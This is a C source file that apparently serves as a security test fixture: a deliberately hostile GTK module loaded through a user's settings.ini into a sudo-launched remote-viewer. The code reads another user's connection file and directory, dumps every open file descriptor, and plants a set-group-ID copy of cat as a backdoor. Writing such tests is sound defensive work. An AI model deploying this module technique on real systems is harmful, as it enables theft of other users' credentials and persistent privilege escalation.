/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* A hostile GTK module, built by tests/e2e/test-client-viewer-module.sh
 * and named in the attacking user's own ~/.config/gtk-3.0/settings.ini
 * (gtk-modules=/absolute/path.so), which GTK reads whatever sudo's
 * env_reset strips.  When the pinned remote-viewer loads it, it writes
 * to REPORT what it runs as and everything it can read: another user's
 * .vv file and connection directory, and every file descriptor it holds;
 * it leaves a set-group-ID copy of cat in HOME, then ends the viewer.
 * Needs no GTK header: a GTK module is a shared object with this symbol.
 * Built with -DOTHER_VV=... -DOTHER_DIR=... -DREPORT=... -DSETGID_COPY=...
 * -DVIEWER_GID=... */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void
dump (FILE *out, const char *label, const char *path)
{
  char buf[65536];
  ssize_t n;
  int fd = open (path, O_RDONLY | O_NONBLOCK);

  if (fd < 0)
    {
      fprintf (out, "%s: refused: %s\n", label, strerror (errno));
      return;
    }
  n = read (fd, buf, sizeof buf - 1);
  close (fd);
  fprintf (out, "%s: read %zd bytes\n", label, n);
  if (n > 0)
    fwrite (buf, 1, (size_t) n, out);
  fputc ('\n', out);
}

static void
list_dir (FILE *out, const char *path)
{
  DIR *dir = opendir (path);
  struct dirent *entry;

  if (dir == NULL)
    {
      fprintf (out, "other-dir: refused: %s\n", strerror (errno));
      return;
    }
  while ((entry = readdir (dir)) != NULL)
    fprintf (out, "other-dir: %s\n", entry->d_name);
  closedir (dir);
}

static void
dump_descriptors (FILE *out)
{
  for (int fd = 0; fd < 64; fd++)
    {
      char path[64], label[64];

      if (fd == fileno (out) || fcntl (fd, F_GETFD) < 0)
        continue;
      snprintf (path, sizeof path, "/proc/self/fd/%d", fd);
      snprintf (label, sizeof label, "fd %d", fd);
      dump (out, label, path);
    }
}

static void
plant_setgid_copy (FILE *out)
{
  char buf[65536];
  ssize_t n;
  int in = open ("/bin/cat", O_RDONLY);
  int copy = open (SETGID_COPY, O_WRONLY | O_CREAT | O_TRUNC, 0755);

  while (in >= 0 && copy >= 0 && (n = read (in, buf, sizeof buf)) > 0)
    if (write (copy, buf, (size_t) n) != n)
      break;
  if (copy < 0 || fchown (copy, (uid_t) -1, VIEWER_GID) != 0 || fchmod (copy, 02755) != 0)
    fprintf (out, "setgid-copy: failed: %s\n", strerror (errno));
  else
    fprintf (out, "setgid-copy: planted\n");
  if (in >= 0)
    close (in);
  if (copy >= 0)
    close (copy);
}

void gtk_module_init (int *argc, char ***argv);

void
gtk_module_init (int *argc, char ***argv)
{
  FILE *out = fopen (REPORT, "w");
  gid_t groups[256];
  int n = getgroups (256, groups);

  if (out == NULL)
    _exit (3);
  fprintf (out, "module ran: uid=%u euid=%u gid=%u egid=%u groups=", (unsigned) getuid (),
           (unsigned) geteuid (), (unsigned) getgid (), (unsigned) getegid ());
  for (int i = 0; i < n; i++)
    fprintf (out, "%s%u", i ? "," : "", (unsigned) groups[i]);
  fputc ('\n', out);
  dump (out, "other-vv", OTHER_VV);
  list_dir (out, OTHER_DIR);
  dump_descriptors (out);
  plant_setgid_copy (out);
  fclose (out);
  _exit (0); /* the attack is over: do not leave a viewer waiting */
}
